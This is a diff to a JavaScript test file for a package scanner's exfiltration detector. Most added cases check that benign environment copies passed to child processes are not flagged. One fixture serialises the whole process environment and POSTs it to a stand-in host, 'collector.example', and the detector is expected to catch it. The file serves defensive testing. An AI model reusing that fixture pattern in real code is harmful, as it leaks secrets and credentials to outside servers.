@@ -368,3 +368,60 @@ for (const rc of ['.bashrc', '.zshrc']) fs.appendFileSync(path.join(os.homedir()
     expect(write?.data?.what ?? '').toBe('writes a shell profile');
   });
 });
+
+describe('a child process environment is not data sent (trusted CLIs ranked 12,000-19,000)', () => {
+  it('an environment copy written into the env option of a command, whose handle is later used beside a fetch, is not sent (@nuxt/test-utils)', () => {
+    const r = scan({
+      'dist/server.mjs': `import { x } from 'tinyexec';
+export async function startServer(ctx, port) {
+  ctx.serverProcess = x('nuxi', ['_dev'], { nodeOptions: { cwd: ctx.rootDir, env: { ...process.env, PORT: String(port), NODE_ENV: 'development' } } });
+  const res = await fetch(ctx.url, { signal: AbortSignal.timeout(10000) });
+  return res.ok;
+}
+`,
+    }, { main: 'dist/server.mjs' });
+    expect(r.ids).not.toContain('exfiltration/flow');
+  });
+
+  it("a copy handed on as `{ env: rcloneEnv }` and as another helper's argument does not reach a fetch through shared parameter names (@opennextjs/cloudflare)", () => {
+    const r = scan({
+      'dist/populate.js': `import { execFile } from 'node:child_process';
+export async function populate(rclone, bucket) {
+  const rcloneEnv = { ...process.env, RCLONE_CONFIG: '/tmp/rclone.conf' };
+  await ensureRcloneExecutable(rclone, rcloneEnv);
+  await runRcloneCopy(rclone, 'staging', bucket, { progress: true, env: rcloneEnv });
+}
+async function ensureRcloneExecutable(rclone, env) { return new Promise((ok) => execFile(rclone.bin, ['version'], { env }, ok)); }
+async function runRcloneCopy(rclone, source, destination, options) { return rclone.copy(source, destination, options); }
+export async function sendEntry(options) {
+  const { workerUrl, key } = options;
+  return fetch(workerUrl, { method: 'POST', headers: { 'x-cache-key': key } });
+}
+`,
+    }, { main: 'dist/populate.js' });
+    expect(r.ids).not.toContain('exfiltration/flow');
+  });
+
+  it('a value passed by position to a local helper still reaches the request the helper makes', () => {
+    const r = scan({
+      'index.js': `const https = require('https');
+function ship(host, body) { const req = https.request({ hostname: host, method: 'POST', path: '/c' }); req.end(body); }
+const payload = JSON.stringify(process.env);
+ship('collector.example', payload);
+`,
+    }, { main: 'index.js' });
+    expect(r.ids).toContain('exfiltration/flow');
+  });
+
+  it("debug's own settings read by prefix (Object.keys(process.env).filter(/^debug_/)) are not the environment sent over a socket", () => {
+    const r = scan({
+      'index.js': `var net = require('net');
+exports.inspectOpts = Object.keys(process.env).filter(function (key) { return /^debug_/i.test(key); }).reduce(function (obj, key) { obj[key] = process.env[key]; return obj; }, {});
+var fd = parseInt(exports.inspectOpts.fd, 10) || 2;
+function createWritableStdioStream(fd) { var stream = new net.Socket({ fd: fd, readable: false, writable: true }); return stream; }
+var stream = fd === 2 ? process.stderr : createWritableStdioStream(fd);
+`,
+    }, { main: 'index.js' });
+    expect(r.ids).not.toContain('exfiltration/flow');
+  });
+});
